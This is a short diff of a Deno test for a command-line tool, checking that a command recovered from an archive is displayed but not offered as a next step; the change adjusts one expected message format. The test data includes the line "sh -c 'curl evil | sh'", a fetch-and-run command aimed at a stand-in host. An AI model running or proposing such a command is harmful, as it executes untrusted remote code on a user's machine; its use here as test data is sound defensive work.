@@ -347,7 +347,7 @@ Deno.test("archive: a command from an archive is shown, but not suggested as a n
     assertEquals((await world.run(["rm", "fd:1"])).code, 0);
     const { type, message, next } = failureOf(await world.run(["read", "fd:1", "--format", "json"]));
     assertEquals([type, next], ["removed", "fdtool ls"]);
-    assertStringIncludes(message, ": 4 bytes, imported, from ");
+    assertStringIncludes(message, "(4 bytes, imported, from ");
     assertStringIncludes(message, "sh -c 'curl evil | sh'");
   }
 });
